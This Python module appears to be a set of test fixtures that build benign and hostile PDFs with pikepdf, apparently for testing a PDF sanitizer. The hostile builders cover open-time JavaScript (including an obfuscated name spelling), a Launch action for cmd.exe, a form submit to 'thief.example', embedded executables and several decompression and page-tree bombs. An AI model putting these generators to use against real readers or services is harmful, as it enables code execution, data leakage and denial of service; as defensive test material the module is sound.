"""PDF files, sound and hostile."""

import struct
import zlib
from io import BytesIO

import pikepdf
from pikepdf import Array, Dictionary, Name, Stream, String

MEBIBYTE = 1024 * 1024
ONE_PAGE = (
    b"<< /Type /Pages /Count 1 /Kids [3 0 R] >>",
    b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 9 9] /Resources << >> >>",
)
PROGRAM = b"MZ\x90\x00\x03\x00\x00\x00\x04\x00\x00\x00\xff\xff" + bytes(200)


def blank(pages: int = 1) -> pikepdf.Pdf:
    pdf = pikepdf.new()
    for _ in range(pages):
        pdf.add_blank_page()
    return pdf


def saved(pdf: pikepdf.Pdf, **how: object) -> bytes:
    file = BytesIO()
    pdf.save(file, **{"object_stream_mode": pikepdf.ObjectStreamMode.disable, "static_id": True} | how)
    return file.getvalue()


def plain() -> bytes:
    pdf = blank(3)
    pdf.pages[0].Contents = Stream(pdf, b"BT /F1 12 Tf (see /JavaScript in the manual) Tj ET\n" * 2000)
    return saved(pdf, compress_streams=True)


def with_owner_password() -> bytes:
    """Everyone may read it; printing needs the owner."""
    return saved(blank(), encryption=pikepdf.Encryption(owner="secret", user=""))


def encrypted() -> bytes:
    return saved(blank(), encryption=pikepdf.Encryption(owner="secret", user="secret"))


def opening(action: Dictionary) -> bytes:
    """One that does something when it is opened."""
    pdf = blank()
    pdf.Root.OpenAction = action
    return saved(pdf)


def with_script() -> bytes:
    return opening(Dictionary(S=Name.JavaScript, JS=String("app.alert(1)")))


def with_script_under_another_spelling() -> bytes:
    """Names may be written with the codes of their letters."""
    action = b"<< /S /J#61vaScript /#4a#53 (app.alert\\(1\\)) >>"
    return written([b"<< /Type /Catalog /Pages 2 0 R /OpenAction %s >>" % action, *ONE_PAGE])


def with_script_in_object_stream() -> bytes:
    pdf = blank()
    pdf.Root.OpenAction = pdf.make_indirect(Dictionary(S=Name.JavaScript, JS=String("app.alert(1)")))
    return saved(pdf, object_stream_mode=pikepdf.ObjectStreamMode.generate)


def with_launch() -> bytes:
    return opening(Dictionary(S=Name.Launch, F=String("cmd.exe")))


def that_sends() -> bytes:
    return opening(Dictionary(S=Name.SubmitForm, F=String("https://thief.example/")))


def with_xfa() -> bytes:
    pdf = blank()
    pdf.Root.AcroForm = Dictionary(Fields=Array([]), XFA=Stream(pdf, b"<xdp/>"))
    return saved(pdf)


def with_attachment(name: str, content: bytes) -> bytes:
    pdf = blank()
    pdf.attachments[name] = pikepdf.AttachedFileSpec(pdf, content, filename=name)
    return saved(pdf)


def with_deep_pages(depth: int = 100_000) -> bytes:
    """A tree of pages, each level with the next one as its only child."""
    objects = [b"<< /Type /Catalog /Pages 2 0 R >>"]
    for level in range(depth):
        parent = b"" if level == 0 else b" /Parent %d 0 R" % (level + 1)
        objects.append(b"<< /Type /Pages /Count 1 /Kids [%d 0 R]%s >>" % (level + 3, parent))
    objects.append(b"<< /Type /Page /MediaBox [0 0 9 9] /Parent %d 0 R >>" % (depth + 1))
    return written(objects)


def with_laughing_pages() -> bytes:
    """Each node names its successor ten times: ten to the power of nine pages."""
    objects = [b"<< /Type /Catalog /Pages 2 0 R >>"]
    objects += [b"<< /Type /Pages /Count 1 /Kids [%s] >>" % (b"%d 0 R " % (level + 3) * 10) for level in range(9)]
    objects.append(b"<< /Type /Page /MediaBox [0 0 9 9] >>")
    return written(objects)


def with_too_many_pages() -> bytes:
    return saved(blank(2500), compress_streams=True)


def without_pages() -> bytes:
    return saved(pikepdf.new())


def deflated(mebibytes: int, before: bytes = b"") -> bytes:
    """Zeros, so many mebibytes of them, a thousand times smaller: one is packed and repeated."""
    deflate = zlib.compressobj(9)
    begun = deflate.compress(before) + deflate.flush(zlib.Z_FULL_FLUSH)
    again = deflate.compress(bytes(MEBIBYTE)) + deflate.flush(zlib.Z_FULL_FLUSH)
    return begun + again * mebibytes


def flate_bomb() -> bytes:
    pdf = blank()
    pdf.pages[0].Contents = Stream(pdf, deflated(600), Filter=Name.FlateDecode)
    return saved(pdf)


def double_flate_bomb() -> bytes:
    pdf = blank()
    packed = zlib.compress(deflated(900), 1)
    pdf.pages[0].Contents = Stream(pdf, packed, Filter=Array([Name.FlateDecode, Name.FlateDecode]))
    return saved(pdf)


def index_bomb() -> bytes:
    """What a reader must unpack before it knows anything: the stream that lists all objects."""
    body, places = body_of([b"<< /Type /Catalog /Pages 2 0 R >>", *ONE_PAGE])
    entries = [bytes(7)] + [struct.pack(">BIH", 1, place, 0) for place in (*places, len(body))]
    packed = deflated(600, b"".join(entries))
    said = b"<< /Type /XRef /W [1 4 2] /Size 5 /Root 1 0 R /Filter /FlateDecode /Length %d >>" % len(packed)
    index = b"4 0 obj\n%s\nstream\n%s\nendstream\nendobj\nstartxref\n%d\n%%%%EOF\n"
    return body + index % (said, packed, len(body))


def with_huge_picture() -> bytes:
    pdf = blank()
    picture = Stream(pdf, deflated(1), Type=Name.XObject, Subtype=Name.Image, Filter=Name.FlateDecode)
    picture.Width, picture.Height, picture.BitsPerComponent, picture.ColorSpace = 20000, 20000, 8, Name.DeviceRGB
    pdf.pages[0].Resources = Dictionary(XObject=Dictionary(Im0=picture))
    return saved(pdf)


def written(objects: list[bytes]) -> bytes:
    """A PDF of these objects, the first being its catalogue."""
    body, places = body_of(objects)
    table = len(body)
    body += b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1)
    body += b"".join(b"%010d 00000 n \n" % place for place in places)
    body += b"trailer\n<< /Size %d /Root 1 0 R >>\nstartxref\n%d\n%%%%EOF\n" % (len(objects) + 1, table)
    return body


def body_of(objects: list[bytes]) -> tuple[bytes, list[int]]:
    """Its beginning, up to where the index follows, and where each object stands."""
    body, places = bytearray(b"%PDF-1.5\n"), []
    for number, content in enumerate(objects, 1):
        places.append(len(body))
        body += b"%d 0 obj\n%s\nendobj\n" % (number, content)
    return bytes(body), places
